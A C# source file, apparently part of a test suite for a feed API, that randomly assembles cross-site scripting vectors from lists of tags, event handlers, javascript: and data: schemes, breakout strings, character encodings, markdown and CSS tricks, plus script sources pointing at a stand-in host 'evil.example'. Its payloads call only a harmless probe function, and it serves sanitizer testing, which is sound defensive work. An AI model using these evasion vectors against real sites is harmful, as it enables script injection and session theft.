using System.Globalization;

namespace FeedApi.Reliability.Scripts;

/// <summary>
/// Makes up markup that would run a script: tag, attribute, scheme, encoding, quotes and what they break out of, each by chance.
/// </summary>
internal static class ScriptVector
{
    private const string Call = "feedapiProbe(1)";

    private static readonly string[] Tags =
    [
        "img", "svg", "script", "iframe", "body", "a", "input", "details", "video", "audio", "source", "math", "object", "embed", "link",
        "meta", "base", "form", "button", "textarea", "select", "marquee", "style", "table", "td", "div", "isindex", "image", "frameset",
        "frame", "applet", "noscript", "template", "xmp", "plaintext", "portal", "dialog", "animate", "set", "use", "foreignObject",
        "annotation-xml", "mglyph", "title", "x", "svg/onload", "p", "picture", "track", "area", "keygen", "bgsound", "layer", "xml", "!--",
    ];

    private static readonly string[] Events =
    [
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onbegin", "onpointerenter",
        "onpageshow", "onhashchange", "onscroll", "onwheel", "oncopy", "onbeforeinput", "onloadstart", "onplay", "onmessage", "onresize",
        "OnErRoR", "onfocusin", "ontransitionend", "oncontentvisibilityautostatechange", "onbeforetoggle", "onsearch", "oncut",
        "on\u0000load",
    ];

    private static readonly string[] Addresses =
    [
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "cite", "ping", "longdesc", "dynsrc",
        "lowsrc", "codebase", "classid", "manifest", "profile", "usemap", "icon", "from", "to", "values", "content", "imagesrcset",
        "data-src", "data-original", "srcdoc", "HREF", "src ", "style",
    ];

    private static readonly string[] Schemes =
    [
        "javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "data:application/xhtml+xml,",
        "livescript:", "mocha:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "blob:", "file:///", "filesystem:",
        "javascript://x%0A", "//evil.example/", "\\\\evil.example\\", "about:", "ms-its:", "res:", "0;url=javascript:", "url(javascript:",
    ];

    private static readonly string[] Breaks =
    [
        "", "", "", "\">", "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "<![CDATA[", "</p>", "<svg>",
        "<math><mtext>", "<noscript><p title=\"</noscript>", "<style><!--</style>", "<table><td>", "<svg></p><style><a id=\"</style>",
        "<!--><", "<?x ", "`", "<form><math><mtext></form><form><mglyph><style></math>", "<select><", "&lt;", "\"onfocus=", "</a",
        "<title><a title=\"</title>", "<svg><title>", "<math><annotation-xml encoding=\"text/html\">", "<template>",
        "<xmp><p title=\"</xmp>", "{{ \"", "{% raw %}",
    ];

    private static readonly string[] Separators = [" ", "\n", "\t", "/", "\f", "  /  ", " a=b ", "\u0000", "\v", "\u00A0"];

    /// <summary>A vector.</summary>
    public static string Of(Random random) => One(random, Breaks) + random.Next(10) switch
    {
        0 or 1 or 2 => WithEvent(random),
        3 or 4 or 5 => WithAddress(random),
        6 => InMarkdown(random),
        7 => $"<{Case(random, "style")}>{InStyle(random)}</style>",
        8 => $"<{Case(random, "script")}{One(random, ["", " src=//evil.example/x.js", "/x", " type=module", "\n"])}>{Call}"
            + $"</{Case(random, "script")}>",
        _ => $"{WithEvent(random)}{WithAddress(random)}",
    };

    private static string WithEvent(Random random)
    {
        var separator = One(random, Separators);
        return $"<{Case(random, One(random, Tags))}{separator}src=x{separator}{One(random, Events)}={Quoted(random, Encoded(random, Call))}"
            + One(random, [">", "", "/>", " autofocus tabindex=1>", "//", "<"]);
    }

    private static string WithAddress(Random random)
    {
        var address = Encoded(random, Case(random, One(random, Schemes))) + Call;
        return $"<{Case(random, One(random, Tags))}{One(random, Separators)}{One(random, Addresses)}={Quoted(random, address)}"
            + $"{One(random, ["", " rel=import", " http-equiv=refresh", " attributeName=href", " type=text/html", " srcset=x"])}>x"
            + One(random, ["</a>", "", "</svg>", "</iframe>"]);
    }

    private static string InMarkdown(Random random)
    {
        var address = Encoded(random, Case(random, One(random, Schemes))) + Call;
        return random.Next(8) switch
        {
            0 => $"[x]({address})",
            1 => $"![x]({address})",
            2 => $"<{address}>",
            3 => $"[x][y]\n\n[y]: {address}",
            4 => $"[x](<{address}> \"a\" onclick={Call})",
            5 => $"text\n{{: onclick=\"{Call}\" style=\"{InStyle(random)}\"}}",
            6 => $"# x {{#a onclick={Call}}}",
            _ => $"![x\" onerror=\"{Call}]({address} \"x\\\" onload=\\\"{Call}\")",
        };
    }

    private static string InStyle(Random random) =>
        $"{One(random, ["background", "list-style", "width", "-moz-binding", "behavior", "@import ", "filter"])}:"
        + One(
            random,
            [$"url({One(random, Schemes)}{Call})", $"expression({Call})", $"\\65xpression({Call})", $"url(\"{One(random, Schemes)}\")"]);

    private static string Quoted(Random random, string value) => random.Next(5) switch
    {
        0 => $"'{value}'",
        1 => value,
        2 => $"`{value}`",
        _ => $"\"{value}\"",
    };

    // What browsers read through: references, control characters and blanks within a scheme, letters of other widths.
    private static string Encoded(Random random, string text) => random.Next(9) switch
    {
        0 => string.Concat(text.Select(letter => string.Create(CultureInfo.InvariantCulture, $"&#{(int)letter}"))),
        1 => string.Concat(text.Select(letter => string.Create(CultureInfo.InvariantCulture, $"&#x{(int)letter:x};"))),
        2 => text.Insert(Math.Min(4, text.Length), One(random, ["\t", "\n", "\r", "&Tab;", "&NewLine;", "&#10;", "\u0000"])),
        3 => One(random, [" ", "\u0001", "\u001F", "&#1;", "\u00A0", "\u2028", "\uFEFF"]) + text,
        4 => text.Replace(":", "&colon;", StringComparison.Ordinal).Replace("(", "&lpar;", StringComparison.Ordinal),
        5 => text.Replace("s", "\u017F", StringComparison.Ordinal),
        6 => Uri.EscapeDataString(text),
        _ => text,
    };

    private static string Case(Random random, string text) => random.Next(3) switch
    {
        0 => text.ToUpperInvariant(),
        1 => string.Concat(text.Select(letter => random.Next(2) == 0 ? char.ToUpperInvariant(letter) : letter)),
        _ => text,
    };

    private static string One(Random random, string[] all) => all[random.Next(all.Length)];
}
